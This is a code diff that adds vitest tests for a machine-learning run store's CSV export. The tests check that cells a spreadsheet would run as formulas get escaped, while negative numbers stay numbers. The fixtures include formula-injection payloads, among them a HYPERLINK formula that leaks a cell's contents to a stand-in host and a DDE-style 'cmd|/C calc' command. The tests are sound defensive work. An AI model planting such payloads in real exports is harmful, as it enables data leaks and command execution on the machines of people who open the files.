@@ -3,6 +3,8 @@ import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { makeTempDir } from '../../test/tempDir.ts';
 import type { KernelLabError } from '../errors.ts';
 import { createService, type Service } from '../service.ts';
+import fc from 'fast-check';
+import { csvCell } from './exchange.ts';
 import { downsample } from './queries.ts';
 import { RunStore, type NewRun } from './RunStore.ts';
 
@@ -16,6 +18,26 @@ afterEach(() => {
   store.close();
   tmp.cleanup();
 });
+
+/** One CSV record (RFC 4180 quoting) back into its cells. */
+function parseCsvLine(line: string): string[] {
+  const cells: string[] = [];
+  let cell = '';
+  let quoted = false;
+  for (let i = 0; i < line.length; i++) {
+    const c = line[i]!;
+    if (quoted && c === '"' && line[i + 1] === '"') {
+      cell += '"';
+      i++;
+    } else if (c === '"') quoted = !quoted;
+    else if (c === ',' && !quoted) {
+      cells.push(cell);
+      cell = '';
+    } else cell += c;
+  }
+  cells.push(cell);
+  return cells;
+}
 
 const base: NewRun = { name: 'cnn', modelSpec: { layers: [] }, dataset: 'mnist', backend: 'cpu', seed: 1, hyperparameters: {} };
 
@@ -215,6 +237,49 @@ describe('export and import', () => {
       expect.stringMatching(/,k3-e1-r0,loss,0,0,\d+,0\.37$/),
       expect.stringMatching(/,k3-e1-r0,val_accuracy,0,0,\d+,0\.63$/),
     ]);
+  });
+
+  it('neutralises CSV cells a spreadsheet would run as formulas, and keeps negative numbers as numbers', () => {
+    const run = store.createRun({
+      ...base,
+      name: '=HYPERLINK("http://example.test/?leak="&A1,"open")',
+      status: 'completed',
+      hyperparameters: { note: "@SUM(1+1)*cmd|' /C calc'!A0", shift: -0.5, label: '-0.25', tab: '\tx', cr: '\r=1+1' },
+    });
+    store.setTags(run.id, ['+cmd']);
+    store.logBatch([{ runId: run.id, key: 'loss', step: 0, epoch: 0, value: -Infinity }]);
+    const [header, line] = store
+      .exportRuns({ runIds: [run.id] }, 'csv')
+      .content.trim()
+      .split('\n');
+    const cells = Object.fromEntries(header!.split(',').map((h, i) => [h, parseCsvLine(line!)[i]]));
+    expect(cells.name).toBe('\'=HYPERLINK("http://example.test/?leak="&A1,"open")');
+    expect(cells.tags).toBe("'+cmd");
+    expect(cells['param.note']).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
+    expect(cells['param.tab']).toBe("'\tx");
+    expect(cells['param.cr']).toBe("'\r=1+1");
+    expect(cells['param.shift']).toBe('-0.5');
+    expect(cells['param.label']).toBe('-0.25');
+    expect(cells['loss.last']).toBe('-Infinity');
+    const points = store
+      .exportRuns({ runIds: [run.id] }, 'metrics-csv')
+      .content.trim()
+      .split('\n');
+    expect(parseCsvLine(points[1]!)[1]).toBe(cells.name);
+  });
+
+  it('never writes a CSV cell that starts a formula, whatever the text (property)', () => {
+    fc.assert(
+      fc.property(fc.string({ maxLength: 30 }), fc.constantFrom('=', '+', '-', '@', '\t', '\r', ''), (text, lead) => {
+        const value = lead + text;
+        const [cell] = parseCsvLine(csvCell(value));
+        // Unquoted back, the cell is the value itself unless the value could be read as a formula.
+        if (/^[=+\-@\t\r]/.test(value) && !/^[+-]?(\d+\.?\d*|\.\d+)(e[+-]?\d+)?$|^[+-]?Infinity$/i.test(value))
+          expect(cell).toBe(`'${value}`);
+        else expect(cell).toBe(value);
+      }),
+      { numRuns: 300 },
+    );
   });
 
   it('refuses an import that is not a KernelLab export, writing nothing', () => {
